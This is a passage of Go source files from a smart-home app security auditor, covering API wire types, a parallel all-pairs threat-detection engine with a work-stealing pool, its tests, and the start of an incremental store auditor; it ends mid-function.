	return r.ResolveSource()
}

// BatchItemResult is one batch item's outcome: exactly one of Result
// and Error is set.
type BatchItemResult struct {
	Result *InstallResponse `json:"result,omitempty"`
	Error  *Error           `json:"error,omitempty"`
}

// InstallBatchResponse is the per-item outcome list, in input order.
type InstallBatchResponse struct {
	HomeID  string            `json:"homeId"`
	Results []BatchItemResult `json:"results"`
}

// StoreApp is one store submission for the incremental auditor: exactly
// one of Source/Corpus, plus an optional name override (a name already
// in the store makes the submission an update) and install-time config.
type StoreApp struct {
	Name   string  `json:"name,omitempty"`
	Source string  `json:"source,omitempty"`
	Corpus string  `json:"corpus,omitempty"`
	Config *Config `json:"config,omitempty"`
}

// ResolveSource validates the app's source/corpus pair.
func (s *StoreApp) ResolveSource() (string, *Error) {
	r := InstallRequest{Source: s.Source, Corpus: s.Corpus}
	return r.ResolveSource()
}

// SubmitAppsRequest applies one store batch — submits/updates plus
// removes — to the incremental auditor. At least one of the two lists
// must be non-empty.
type SubmitAppsRequest struct {
	Upserts []StoreApp `json:"upserts,omitempty"`
	Removes []string   `json:"removes,omitempty"`
}

// Finding is the wire form of one store finding: a threat attributed to
// its app pair (App1 is the earlier-installed side; equal to App2 for
// intra-app findings).
type Finding struct {
	App1   string `json:"app1"`
	App2   string `json:"app2"`
	Threat Threat `json:"threat"`
}

// FindingOf renders one store finding (findings carry no log indices).
func FindingOf(f audit.Finding) Finding {
	return Finding{App1: f.App1, App2: f.App2, Threat: ThreatOf(f.Threat, -1)}
}

// FindingsOf renders a finding list, keeping order.
func FindingsOf(fs []audit.Finding) []Finding {
	out := make([]Finding, 0, len(fs))
	for _, f := range fs {
		out = append(out, FindingOf(f))
	}
	return out
}

// SubmitAppsResponse is the revision one applied batch produced.
type SubmitAppsResponse struct {
	Rev        uint64            `json:"rev"`
	Apps       int               `json:"apps"`
	Pairs      int               `json:"pairs"`
	Added      []Finding         `json:"added,omitempty"`
	Resolved   []Finding         `json:"resolved,omitempty"`
	Errors     map[string]*Error `json:"errors,omitempty"`
	DurationMs float64           `json:"durationMs"`
}

// SubmitAppsResponseOf converts an auditor revision to the wire form.
func SubmitAppsResponseOf(rev *audit.Revision) *SubmitAppsResponse {
	out := &SubmitAppsResponse{
		Rev:        rev.Rev,
		Apps:       rev.Apps,
		Pairs:      rev.Pairs,
		Added:      FindingsOf(rev.Added),
		Resolved:   FindingsOf(rev.Resolved),
		DurationMs: float64(rev.Duration.Microseconds()) / 1000.0,
	}
	for name, err := range rev.Errors {
		if out.Errors == nil {
			out.Errors = map[string]*Error{}
		}
		if errors.Is(err, audit.ErrUnknownApp) {
			out.Errors[name] = Errorf(CodeNotFound, "%v", err)
		} else {
			out.Errors[name] = FromErr(err)
		}
	}
	return out
}

// FindingsRequest reads the store findings feed from a revision the
// client last saw (0 for everything).
type FindingsRequest struct {
	Since uint64 `json:"since,omitempty"`
}

// FindingsResponse is the findings feed: the delta between Since and
// Rev, or — when Reset is set because Since aged out of the retained
// history — the full active set in Added.
type FindingsResponse struct {
	Rev      uint64    `json:"rev"`
	Since    uint64    `json:"since"`
	Reset    bool      `json:"reset,omitempty"`
	Added    []Finding `json:"added,omitempty"`
	Resolved []Finding `json:"resolved,omitempty"`
}

// FindingsResponseOf converts an auditor feed to the wire form.
func FindingsResponseOf(f *audit.Feed) *FindingsResponse {
	return &FindingsResponse{
		Rev:      f.Rev,
		Since:    f.Since,
		Reset:    f.Reset,
		Added:    FindingsOf(f.Added),
		Resolved: FindingsOf(f.Resolved),
	}
}

// ---------- cluster shapes ----------

// PingRequest is the gateway heartbeat probe. Empty today; a struct so
// the wire shape can grow (e.g. the ring version the prober holds)
// without a method change.
type PingRequest struct{}

// PingResponse identifies the probed node and its current load.
type PingResponse struct {
	// Node is the node's -node-id (empty when the daemon runs unnamed).
	Node string `json:"node,omitempty"`
	// Homes is the number of homes the node currently manages.
	Homes int `json:"homes"`
}

// MigrateHomeRequest asks a node to export one home and detach it: the
// home's durable state is serialized, a removal record is logged, and
// the node stops serving the home. The returned snapshot is what
// AdoptHome on the new owner consumes.
type MigrateHomeRequest struct {
	Home string `json:"home"`
}

// MigrateHomeResponse carries the detached home's serialized state.
type MigrateHomeResponse struct {
	HomeID string `json:"homeId"`
	// Apps is the number of apps the exported home held.
	Apps int `json:"apps"`
	// Snapshot is the snapcodec-encoded single-home section
	// (fleet.ExportHome): apps with resolved configs, threat log,
	// ledger, accepted threats.
	Snapshot []byte `json:"snapshot"`
}

// AdoptHomeRequest asks a node to import a home exported by MigrateHome
// (or rebuilt by the gateway's failover path).
type AdoptHomeRequest struct {
	Home     string `json:"home"`
	Snapshot []byte `json:"snapshot"`
}

// AdoptHomeResponse acknowledges the adopted home.
type AdoptHomeResponse struct {
	HomeID string `json:"homeId"`
	// Apps is the number of apps the imported home holds.
	Apps int `json:"apps"`
}
