// Package audit is the parallel all-pairs detection engine: it runs the
// paper's store-audit workload (every app against every other app, plus
// each app against itself) across all cores while producing output that
// is byte-identical to the serial install sequence.
//
// # Why pairs parallelize
//
// A serial audit installs apps one by one into a single detector; install
// j checks the pairs (j,j), (0,j), …, (j−1,j). Every one of those pair
// checks is independent: compiled rule sets are pure functions of the
// apps, the solver's per-pair reuse cache is keyed by rule-pair identity
// and never crosses pairs, and the only cross-app state a pair check
// reads — the enum-input options declared by the pair's own two apps — is
// recorded by the worker before checking. The engine therefore fans the
// pair tasks out over a work-stealing worker pool, one detector per
// worker, and reassembles the per-pair results in exactly the serial
// install order.
//
// # Index-driven work items
//
// By default the task list is not the n·(n−1)/2 grid: tasks are generated
// from an inverted footprint-channel index (detect.FootprintIndex) built
// incrementally in install order, so only app pairs sharing an
// interference channel are ever materialized — the pairs skipped are
// exactly those the grid's per-pair footprint prune would have rejected,
// making the output byte-identical while candidate generation scales with
// channel overlap instead of n². When overlap density exceeds
// IndexDensityCutoff the engine falls back to the grid (postings buy
// nothing on near-total overlap), and Options.DisableIndex or the
// DisablePruning ablation force it.
//
// # Concurrency model
//
// Extraction (when sources are given) runs first, in parallel, through an
// optional shared extractcache. Compilation runs once per app,
// single-threaded, before fan-out: the compiled-set attach is an
// unsynchronized write on the InstalledApp, so it must finish before the
// app is shared read-only across workers. During the pair phase workers
// share only immutable data and write disjoint result slots; the deques
// are mutex-protected. The engine is race-clean under -race.
package audit

import (
	"fmt"
	"runtime"
	"sync"
	"time"

	"homeguard/internal/detect"
	"homeguard/internal/extractcache"
	"homeguard/internal/obs"
	"homeguard/internal/symexec"
)

// App is one audit input: either an already-extracted result or a source
// to extract.
type App struct {
	// Name overrides the app's definition() name (extraction-time only).
	Name string
	// Source is the SmartApp Groovy source; used when Res is nil.
	Source string
	// Res is a pre-extracted result; takes precedence over Source.
	Res *symexec.Result
	// Config carries installation-time bindings; nil means type-level
	// device identity.
	Config *detect.Config
}

// Options tune an audit run.
type Options struct {
	// Workers bounds the worker pool; 0 selects GOMAXPROCS.
	Workers int
	// Detector is applied to every worker's detector (modes, ablations,
	// shared verdict cache).
	Detector detect.Options
	// Extract, when non-nil, is the shared extraction cache sources run
	// through (one symbolic execution per distinct source even across
	// audit runs and fleets).
	Extract *extractcache.Cache
	// DisableIndex forces the n·(n−1)/2 pair grid instead of generating
	// work items from footprint-index postings (contrast runs and the
	// indexed-equals-grid pin test). The index is also bypassed when
	// Detector.DisablePruning is set: the ablation must solve every pair.
	DisableIndex bool
	// IndexDensityCutoff is the candidate-pair fraction of the full grid
	// above which the engine falls back to the grid (posting-list
	// generation buys nothing on near-total overlap and the grid avoids
	// its bookkeeping). 0 selects DefaultIndexDensityCutoff; a value > 1
	// never falls back.
	IndexDensityCutoff float64
	// Span, when non-nil, is the parent span under which the run records
	// its phase spans (extract, compile, candidates, pairs) and one
	// "worker" child per pool worker. Workers write only their own span
	// slot and their own busy-time counter during fan-out, so the trace is
	// race-clean; per-worker detector counters are merged onto the worker
	// spans at reassembly. Nil (the default) records nothing.
	Span *obs.Span
	// Obs, when non-nil, publishes audit totals (runs, pairs checked,
	// solver calls, threats) into Obs.Registry under the
	// homeguard_audit_* names.
	Obs *obs.Observer
}

// DefaultIndexDensityCutoff is the fallback threshold: when more than
// this fraction of all cross-app pairs are index candidates, the overlap
// is dense enough that enumerating the grid outright is cheaper.
const DefaultIndexDensityCutoff = 0.75

// Result is the audit output.
type Result struct {
	// Installed holds the successfully extracted apps in input order
	// (failed extractions are dropped, mirroring the serial audit loops).
	Installed []*detect.InstalledApp
	// PerInstall groups threats exactly as a serial install sequence
	// would have reported them: PerInstall[j] is what Install of app j
	// returns — the intra-app pair first, then (i, j) for every earlier
	// app i, in order.
	PerInstall [][]detect.Threat
	// Errors records extraction failures by input index (nil entries for
	// successes); len(Errors) == number of input apps.
	Errors []error
	// Stats aggregates every worker detector's counters.
	Stats detect.Stats
	// UsedIndex reports whether work items came from footprint-index
	// postings (false: the pair grid ran, by option, ablation or the
	// density fallback).
	UsedIndex bool
}

// Threats flattens PerInstall in serial install order.
func (r *Result) Threats() []detect.Threat {
	var out []detect.Threat
	for _, ts := range r.PerInstall {
		out = append(out, ts...)
	}
	return out
}

// Run executes the all-pairs audit.
func Run(apps []App, opts Options) *Result {
	workers := opts.Workers
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}

	res := &Result{Errors: make([]error, len(apps))}

	// Phase 1: extraction, parallel over the inputs that need it.
	extracted := make([]*symexec.Result, len(apps))
	extract := func(i int) {
		a := &apps[i]
		if a.Res != nil {
			extracted[i] = a.Res
			return
		}
		var (
			r   *symexec.Result
			err error
		)
		if opts.Extract != nil {
			r, err = opts.Extract.Extract(a.Source, a.Name)
		} else {
			r, err = symexec.Extract(a.Source, a.Name)
		}
		if err != nil {
			res.Errors[i] = fmt.Errorf("audit: extract app %d (%s): %w", i, a.Name, err)
			return
		}
		extracted[i] = r
	}
	xsp := opts.Span.Child("extract")
	runTasks(len(apps), workers, extract)
	if xsp != nil {
		xsp.SetInt("apps", int64(len(apps)))
		xsp.End()
	}

	// Assemble the installed set in input order, dropping failures.
	for i := range apps {
		if extracted[i] == nil {
			continue
		}
		res.Installed = append(res.Installed, detect.NewInstalledApp(extracted[i], apps[i].Config))
	}
	n := len(res.Installed)
	if n == 0 {
		res.Stats = detect.New(opts.Detector).Stats()
		publishAuditMetrics(opts.Obs, res)
		return res
	}

	// Phase 2: compile every app once, single-threaded, so the shared
	// InstalledApps are immutable before fan-out.
	csp := opts.Span.Child("compile")
	compiler := detect.New(opts.Detector)
	for _, ia := range res.Installed {
		compiler.Precompile(ia)
	}
	csp.End()

	// Phase 3: pair detection over a work-stealing pool. Task k is one
	// (i, j) pair, i <= j, laid out in serial install order: install j
	// contributes tasks [(j,j), <candidates of j in ascending i>] on the
	// index path and [(j,j), (0,j), ..., (j-1,j)] on the grid. Candidate
	// generation walks the footprint index's posting lists, so its cost —
	// and the task count — scales with the actual channel overlap, not
	// with n²; the pairs never generated are exactly those the grid's
	// per-pair footprint prune would have rejected (they are folded into
	// PairsPruned/PairsSkippedByIndex so the stats match the serial scan).
	type pairTask struct{ i, j int }
	gsp := opts.Span.Child("candidates")
	var tasks []pairTask
	installBase := make([]int, n) // first task index of install j
	var skippedRulePairs, indexedPairs int
	useIndex := !opts.DisableIndex && !opts.Detector.DisablePruning
	if useIndex {
		cutoff := opts.IndexDensityCutoff
		if cutoff == 0 {
			cutoff = DefaultIndexDensityCutoff
		}
		idx := detect.NewFootprintIndex()
		var buf []int32
		ruleN := make([]int, n)
		sumRuleN := 0 // Σ ruleN[0..j-1], for O(1) skipped-pair accounting
		tasks = make([]pairTask, 0, n*2)
		for j := 0; j < n; j++ {
			ruleN[j] = len(res.Installed[j].Rules.Rules)
			installBase[j] = len(tasks)
			tasks = append(tasks, pairTask{j, j})
			fp := res.Installed[j].Footprint()
			buf = idx.AppendCandidates(fp, buf[:0])
			candRules := 0
			for _, s := range buf {
				tasks = append(tasks, pairTask{int(s), j})
				candRules += ruleN[s]
			}
			indexedPairs += len(buf)
			skippedRulePairs += (sumRuleN - candRules) * ruleN[j]
			idx.Add(fp)
			sumRuleN += ruleN[j]
		}
		if float64(indexedPairs) > cutoff*float64(n*(n-1))/2 {
			useIndex = false // dense overlap: the grid is cheaper to run
			tasks, skippedRulePairs, indexedPairs = nil, 0, 0
		}
	}
	if !useIndex {
		tasks = make([]pairTask, 0, n*(n+1)/2)
		for j := 0; j < n; j++ {
			installBase[j] = len(tasks)
			tasks = append(tasks, pairTask{j, j})
			for i := 0; i < j; i++ {
				tasks = append(tasks, pairTask{i, j})
			}
		}
	}
	res.UsedIndex = useIndex
	if gsp != nil {
		gsp.SetInt("tasks", int64(len(tasks)))
		if useIndex {
			gsp.SetStr("source", "index")
		} else {
			gsp.SetStr("source", "grid")
		}
		gsp.End()
	}
	pairThreats := make([][]detect.Threat, len(tasks))

	dets := make([]*detect.Detector, workers)
	for w := range dets {
		dets[w] = detect.New(opts.Detector)
	}
	// Per-worker span buffers are created before fan-out so each worker
	// owns exactly one span slot and one busy-time slot — spans are not
	// safe for concurrent use, but disjoint ownership is race-free. The
	// coordinator merges detector counters onto them at reassembly.
	psp := opts.Span.Child("pairs")
	var (
		wspans []*obs.Span
		busy   []int64
	)
	if psp != nil {
		wspans = make([]*obs.Span, workers)
		busy = make([]int64, workers)
		for w := range wspans {
			wspans[w] = psp.Child("worker")
		}
	}
	runTasksWorker(len(tasks), workers, func(w, k int) {
		var t0 time.Time
		if busy != nil {
			t0 = time.Now()
		}
		t := tasks[k]
		a, b := res.Installed[t.i], res.Installed[t.j]
		if useIndex {
			// Candidates are known to share a channel (and intra pairs are
			// never pruned), so skip the per-pair footprint walk.
			pairThreats[k] = dets[w].DetectAppPairCandidate(a, b)
		} else {
			pairThreats[k] = dets[w].DetectAppPair(a, b)
		}
		if busy != nil {
			busy[w] += int64(time.Since(t0))
		}
	})
	if psp != nil {
		for w, d := range dets {
			s := d.Stats()
			wspans[w].SetInt("busy_ns", busy[w])
			wspans[w].SetInt("pairs_checked", int64(s.PairsChecked))
			wspans[w].SetInt("solver_calls", int64(s.SolverCalls))
			wspans[w].End()
		}
		psp.End()
	}

	// Reassemble per-install groups and aggregate stats.
	res.PerInstall = make([][]detect.Threat, n)
	for j := 0; j < n; j++ {
		end := len(tasks)
		if j+1 < n {
			end = installBase[j+1]
		}
		var ts []detect.Threat
		for k := installBase[j]; k < end; k++ {
			ts = append(ts, pairThreats[k]...)
		}
		res.PerInstall[j] = ts
	}
	res.Stats = compiler.Stats()
	for _, d := range dets {
		s := d.Stats()
		res.Stats.Merge(s)
	}
	// Pairs the index never generated: counted exactly as the serial scan
	// counts its footprint-pruned pairs, plus the index-specific counter.
	res.Stats.PairsPruned += skippedRulePairs
	res.Stats.PairsSkippedByIndex += skippedRulePairs
	res.Stats.PairsIndexed += indexedPairs
	publishAuditMetrics(opts.Obs, res)
	return res
}

// publishAuditMetrics folds one run's totals into the registry's
// homeguard_audit_* counters. Registration is idempotent by name, so
// every Run may re-ask for its counters.
func publishAuditMetrics(o *obs.Observer, res *Result) {
	if o == nil {
		return
	}
	r := o.Registry
	r.Counter("homeguard_audit_runs_total", "Completed store-audit runs.").Inc()
	r.Counter("homeguard_audit_pairs_checked_total", "Rule pairs checked across audit runs.").Add(uint64(res.Stats.PairsChecked))
	r.Counter("homeguard_audit_solver_calls_total", "Solver invocations across audit runs.").Add(uint64(res.Stats.SolverCalls))
	threats := 0
	for _, ts := range res.PerInstall {
		threats += len(ts)
	}
	r.Counter("homeguard_audit_threats_total", "Threats reported across audit runs.").Add(uint64(threats))
}

// runTasks fans f out over [0, n) with a work-stealing pool.
func runTasks(n, workers int, f func(i int)) {
	runTasksWorker(n, workers, func(_, i int) { f(i) })
}

// runTasksWorker is the work-stealing pool core: tasks [0, n) are dealt
// round-robin into per-worker deques; a worker pops from the tail of its
// own deque and, when empty, steals half of the largest other deque.
// Each f(w, i) call sees a stable worker id w, so callers can give each
// worker private state without locking.
func runTasksWorker(n, workers int, f func(w, i int)) {
	if n == 0 {
		return
	}
	if workers > n {
		workers = n
	}
	if workers <= 1 {
		for i := 0; i < n; i++ {
			f(0, i)
		}
		return
	}
	deques := make([]*deque, workers)
	for w := range deques {
		deques[w] = &deque{}
	}
	for i := 0; i < n; i++ {
		d := deques[i%workers]
		d.tasks = append(d.tasks, i)
	}
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			own := deques[w]
			for {
				i, ok := own.pop()
				if !ok {
					if !own.stealFrom(deques, w) {
						return
					}
					continue
				}
				f(w, i)
			}
		}(w)
	}
	wg.Wait()
}

// deque is one worker's mutex-protected task stack.
type deque struct {
	mu    sync.Mutex
	tasks []int
}

func (d *deque) pop() (int, bool) {
	d.mu.Lock()
	defer d.mu.Unlock()
	if len(d.tasks) == 0 {
		return 0, false
	}
	i := d.tasks[len(d.tasks)-1]
	d.tasks = d.tasks[:len(d.tasks)-1]
	return i, true
}

// stealFrom moves half of the largest victim deque into d. It returns
// false when every deque is empty (the pool is drained: no worker can
// produce new tasks, so empty-everywhere is a stable termination state).
func (d *deque) stealFrom(all []*deque, self int) bool {
	victim, most := -1, 0
	for w, v := range all {
		if w == self {
			continue
		}
		v.mu.Lock()
		l := len(v.tasks)
		v.mu.Unlock()
		if l > most {
			victim, most = w, l
		}
	}
	if victim < 0 {
		return false
	}
	v := all[victim]
	v.mu.Lock()
	half := len(v.tasks) / 2
	if half == 0 && len(v.tasks) > 0 {
		half = len(v.tasks)
	}
	stolen := append([]int(nil), v.tasks[:half]...)
	v.tasks = v.tasks[:copy(v.tasks, v.tasks[half:])]
	v.mu.Unlock()
	if len(stolen) == 0 {
		return false
	}
	d.mu.Lock()
	d.tasks = append(d.tasks, stolen...)
	d.mu.Unlock()
	return true
}
