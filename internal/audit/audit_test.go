package audit_test

import (
	"strings"
	"testing"

	"homeguard/internal/audit"
	"homeguard/internal/corpus"
	"homeguard/internal/detect"
	"homeguard/internal/experiments"
	"homeguard/internal/extractcache"
	"homeguard/internal/symexec"
)

// serialAudit is the reference implementation: one detector, apps
// installed in order — exactly what examples/storeaudit and Fig8 did
// before the engine existed.
func serialAudit(t *testing.T, apps []corpus.App) (perInstall [][]detect.Threat, stats detect.Stats) {
	t.Helper()
	d := detect.New(detect.Options{})
	for _, a := range apps {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			t.Fatalf("extract %s: %v", a.Name, err)
		}
		perInstall = append(perInstall, d.Install(detect.NewInstalledApp(res, experiments.StoreConfig(res))))
	}
	return perInstall, d.Stats()
}

func auditApps(apps []corpus.App) []audit.App {
	out := make([]audit.App, 0, len(apps))
	for _, a := range apps {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			continue
		}
		out = append(out, audit.App{Res: res, Config: experiments.StoreConfig(res)})
	}
	return out
}

func renderThreats(perInstall [][]detect.Threat) string {
	var b strings.Builder
	for j, ts := range perInstall {
		for _, th := range ts {
			b.WriteString(th.String())
			if j >= 0 {
				b.WriteByte('\n')
			}
		}
		b.WriteString("--\n")
	}
	return b.String()
}

// TestParallelMatchesSerial pins the engine's core contract: the parallel
// audit's findings are byte-identical to the serial install sequence's —
// same threats, same order, same per-install grouping — at any worker
// count.
func TestParallelMatchesSerial(t *testing.T) {
	apps := corpus.StoreAudit()[:30]
	serial, serialStats := serialAudit(t, apps)
	want := renderThreats(serial)

	for _, workers := range []int{1, 2, 4, 8} {
		res := audit.Run(auditApps(apps), audit.Options{Workers: workers})
		got := renderThreats(res.PerInstall)
		if got != want {
			t.Fatalf("workers=%d: parallel audit diverged from serial:\ngot:\n%s\nwant:\n%s", workers, got, want)
		}
		if res.Stats.PairsChecked != serialStats.PairsChecked {
			t.Errorf("workers=%d: PairsChecked = %d, serial %d", workers, res.Stats.PairsChecked, serialStats.PairsChecked)
		}
		if res.Stats.PairsPruned != serialStats.PairsPruned {
			t.Errorf("workers=%d: PairsPruned = %d, serial %d", workers, res.Stats.PairsPruned, serialStats.PairsPruned)
		}
		for k, v := range serialStats.Found {
			if res.Stats.Found[k] != v {
				t.Errorf("workers=%d: Found[%s] = %d, serial %d", workers, k, res.Stats.Found[k], v)
			}
		}
	}
}

// TestRunExtractsSources exercises the engine's own extraction phase
// (parallel, through a shared cache) including error slots.
func TestRunExtractsSources(t *testing.T) {
	cache := extractcache.New()
	apps := []audit.App{
		{Source: corpus.StoreAudit()[0].Source},
		{Source: "def broken( {"},
		{Source: corpus.StoreAudit()[1].Source},
	}
	res := audit.Run(apps, audit.Options{Workers: 4, Extract: cache})
	if len(res.Errors) != 3 || res.Errors[1] == nil || res.Errors[0] != nil || res.Errors[2] != nil {
		t.Fatalf("error slots wrong: %v", res.Errors)
	}
	if len(res.Installed) != 2 {
		t.Fatalf("installed = %d, want 2", len(res.Installed))
	}
	if len(res.PerInstall) != 2 {
		t.Fatalf("perInstall groups = %d, want 2", len(res.PerInstall))
	}
	if cache.Stats().Misses == 0 {
		t.Fatal("shared cache unused")
	}
}

// TestIndexedAuditMatchesGrid pins the tentpole contract on the Fig. 8
// corpus: the audit whose work items come from footprint-index postings
// reports byte-identical findings — same threats, same order, same
// per-install grouping — as the full n·(n−1)/2 pair grid, and the
// pairs-checked/pruned accounting agrees between the two paths.
func TestIndexedAuditMatchesGrid(t *testing.T) {
	apps := auditApps(corpus.StoreAudit())
	grid := audit.Run(apps, audit.Options{DisableIndex: true})
	if grid.UsedIndex {
		t.Fatal("DisableIndex run reports UsedIndex")
	}
	// Cutoff > 1 pins the index path even if corpus density drifts above
	// the default fallback threshold.
	indexed := audit.Run(apps, audit.Options{IndexDensityCutoff: 1.1})
	if !indexed.UsedIndex {
		t.Fatal("index run fell back to the grid")
	}
	if got, want := renderThreats(indexed.PerInstall), renderThreats(grid.PerInstall); got != want {
		t.Fatalf("indexed audit diverged from grid audit:\nindexed:\n%s\ngrid:\n%s", got, want)
	}
	if indexed.Stats.PairsChecked != grid.Stats.PairsChecked {
		t.Errorf("PairsChecked: indexed %d, grid %d", indexed.Stats.PairsChecked, grid.Stats.PairsChecked)
	}
	if indexed.Stats.PairsPruned != grid.Stats.PairsPruned {
		t.Errorf("PairsPruned: indexed %d, grid %d", indexed.Stats.PairsPruned, grid.Stats.PairsPruned)
	}
	if indexed.Stats.PairsIndexed == 0 || indexed.Stats.PairsSkippedByIndex == 0 {
		t.Errorf("index accounting inert: indexed=%d skipped=%d",
			indexed.Stats.PairsIndexed, indexed.Stats.PairsSkippedByIndex)
	}
	for k, v := range grid.Stats.Found {
		if indexed.Stats.Found[k] != v {
			t.Errorf("Found[%s]: indexed %d, grid %d", k, indexed.Stats.Found[k], v)
		}
	}
}

// TestRunEmpty covers the degenerate inputs.
func TestRunEmpty(t *testing.T) {
	res := audit.Run(nil, audit.Options{})
	if len(res.Installed) != 0 || len(res.Threats()) != 0 {
		t.Fatal("empty run must produce nothing")
	}
}
