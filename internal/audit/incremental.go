package audit

// The incremental audit engine: where Run recomputes a whole store from
// scratch, the long-lived Auditor holds the store's footprint-channel
// index, its compiled apps and every pair's current verdict across
// revisions, so applying a batch of app submits/updates/removes costs
// O(Δ · overlap) — only the changed apps re-extract and recompile, and
// only the pairs whose footprints actually intersect a changed app are
// re-checked. Untouched pairs keep their cached verdicts, which is sound
// because a pair's threats are a pure function of its two apps and the
// mode universe (the same purity the parallel engine in audit.go relies
// on to fan pairs out across workers), and complete because the footprint
// prune is sound: a pair that stops sharing a channel provably has no
// threats, so dropping its verdict without solving is exact.
//
// Every applied batch produces a monotonically versioned Revision with a
// findings delta — threats added and resolved per app pair, in serial
// install order — published through internal/events and queryable as a
// feed: FindingsSince(rev) replays the retained per-revision deltas, or
// answers with a Reset snapshot when the asked-for revision has aged out
// of the bounded history. The full active set (Findings) is byte-identical
// to a from-scratch Run over the current store, pinned by the churn
// property test in incremental_test.go.

import (
	"errors"
	"fmt"
	"runtime"
	"sort"
	"sync"
	"time"

	"homeguard/internal/detect"
	"homeguard/internal/events"
	"homeguard/internal/extractcache"
	"homeguard/internal/obs"
	"homeguard/internal/symexec"
	"homeguard/internal/wal"
)

// ErrUnknownApp reports a Batch remove of an app the store does not hold.
var ErrUnknownApp = errors.New("audit: app not in store")

// ErrEmptyBatch reports an Apply with no upserts and no removes.
var ErrEmptyBatch = errors.New("audit: empty batch")

// DefaultRevisionHistory bounds the per-revision deltas retained for
// FindingsSince; older feeds degrade to a Reset snapshot.
const DefaultRevisionHistory = 256

// Batch is one store mutation set: apps to submit or update (keyed by
// name — a name already in the store is an update, a new name a submit)
// and apps to remove. Removes apply before upserts, so a batch that
// removes and resubmits one name reinstalls it at the end of the store
// order.
type Batch struct {
	Upserts []App
	Removes []string
}

// Finding is one active threat attributed to its app pair. App1 is the
// earlier-installed side (App1 == App2 for intra-app threats), matching
// the serial install order the batch engine reports in.
type Finding struct {
	App1   string
	App2   string
	Threat detect.Threat
}

// Revision is the outcome of one applied batch.
type Revision struct {
	// Rev is the store revision this batch produced (monotonic from 1).
	Rev uint64
	// Added and Resolved are the findings delta against the previous
	// revision, each in serial install order.
	Added    []Finding
	Resolved []Finding
	// Apps is the store size after the batch.
	Apps int
	// Pairs counts the app pairs re-checked for this revision.
	Pairs int
	// Errors records per-app failures (extraction errors, removes of
	// unknown apps) by app name; failed upserts leave the store entry
	// unchanged.
	Errors map[string]error
	// Stats aggregates the worker detectors' counters for the batch.
	Stats detect.Stats
	// Duration is the wall-clock cost of applying the batch.
	Duration time.Duration
}

// Feed is a findings-feed response: the delta between a client's last
// seen revision and the store's current one.
type Feed struct {
	// Rev is the store's current revision; Since echoes the request.
	Rev   uint64
	Since uint64
	// Reset reports that Since has aged out of the retained history:
	// Added then carries the full active set and the client must drop
	// its local state instead of applying a delta.
	Reset    bool
	Added    []Finding
	Resolved []Finding
}

// AuditorOptions tune an incremental auditor.
type AuditorOptions struct {
	// Workers bounds the pair-check worker pool; 0 selects GOMAXPROCS.
	Workers int
	// Detector is applied to every worker's detector (modes, ablations,
	// shared verdict cache).
	Detector detect.Options
	// Extract, when non-nil, is the shared extraction cache upsert
	// sources run through.
	Extract *extractcache.Cache
	// History bounds the revisions retained for FindingsSince (default
	// DefaultRevisionHistory).
	History int
	// Obs, when non-nil, records an "audit.apply" span per batch and
	// publishes the homeguard_audit_* revision metrics.
	Obs *obs.Observer
	// Events, when non-nil, receives one revision event plus one finding
	// event per added/resolved finding for every applied batch.
	Events *events.Writer
}

// storeApp is one installed store entry: the compiled app, its index
// slot and its position in the store (install) order.
type storeApp struct {
	name string
	app  *detect.InstalledApp
	slot int
	pos  int
}

// pairID addresses one app pair by name, earlier-installed side first
// (a == b for the intra-app pair). Relative store order never changes
// while both apps stay installed — removals splice positions but keep
// order — so a pair's orientation is stable for the verdict's lifetime.
type pairID struct{ a, b string }

// Auditor is the long-lived incremental store auditor. All methods are
// goroutine-safe; Apply calls serialize, with the pair checks of one
// batch fanning out over an internal worker pool.
type Auditor struct {
	mu       sync.Mutex
	opts     AuditorOptions
	workers  int
	idx      *detect.FootprintIndex
	compiler *detect.Detector // Precompile only: attaches compiled sets single-threaded

	slots  []*storeApp // by index slot; nil entries are free
	free   []int       // freed slots, reused so the index never grows with churn
	byName map[string]*storeApp
	order  []*storeApp // store (install) order; pos fields mirror indices

	// verdicts holds the current threats of every pair that HAS threats
	// (clean pairs are absent — the delta diff treats missing as empty),
	// and pairsOf is its per-app adjacency for O(degree) invalidation.
	verdicts map[pairID][]detect.Threat
	pairsOf  map[string]map[string]struct{}

	rev     uint64
	history []*Revision
	active  int // current finding count, for the gauge

	// wal, when attached, receives one OpAuditBatch record per applied
	// batch; walLSN is the store's recovery watermark (the LSN of the last
	// batch reflected in this auditor's state).
	wal    *wal.Log
	walLSN uint64
}

// NewAuditor returns an empty store auditor.
func NewAuditor(opts AuditorOptions) *Auditor {
	workers := opts.Workers
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if opts.History <= 0 {
		opts.History = DefaultRevisionHistory
	}
	return &Auditor{
		opts:     opts,
		workers:  workers,
		idx:      detect.NewFootprintIndex(),
		compiler: detect.New(opts.Detector),
		byName:   map[string]*storeApp{},
		verdicts: map[pairID][]detect.Threat{},
		pairsOf:  map[string]map[string]struct{}{},
	}
}

// Rev returns the current store revision (0 before the first Apply).
func (a *Auditor) Rev() uint64 {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.rev
}

// Apps returns the store's app names in install order.
func (a *Auditor) Apps() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	out := make([]string, len(a.order))
	for i, st := range a.order {
		out[i] = st.name
	}
	return out
}

// ActiveFindings returns the current finding count.
func (a *Auditor) ActiveFindings() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.active
}

// pairIDOf orients a pair by store position.
func pairIDOf(x, y *storeApp) pairID {
	if x == y {
		return pairID{x.name, x.name}
	}
	if x.pos < y.pos {
		return pairID{x.name, y.name}
	}
	return pairID{y.name, x.name}
}

// notePair records id in the adjacency (both directions, self for intra).
func (a *Auditor) notePair(id pairID) {
	set := a.pairsOf[id.a]
	if set == nil {
		set = map[string]struct{}{}
		a.pairsOf[id.a] = set
	}
	set[id.b] = struct{}{}
	if id.b != id.a {
		set = a.pairsOf[id.b]
		if set == nil {
			set = map[string]struct{}{}
			a.pairsOf[id.b] = set
		}
		set[id.a] = struct{}{}
	}
}

// dropPair forgets id's verdict and adjacency entries.
func (a *Auditor) dropPair(id pairID) {
	delete(a.verdicts, id)
	if s := a.pairsOf[id.a]; s != nil {
		delete(s, id.b)
		if len(s) == 0 {
			delete(a.pairsOf, id.a)
		}
	}
	if id.b != id.a {
		if s := a.pairsOf[id.b]; s != nil {
			delete(s, id.a)
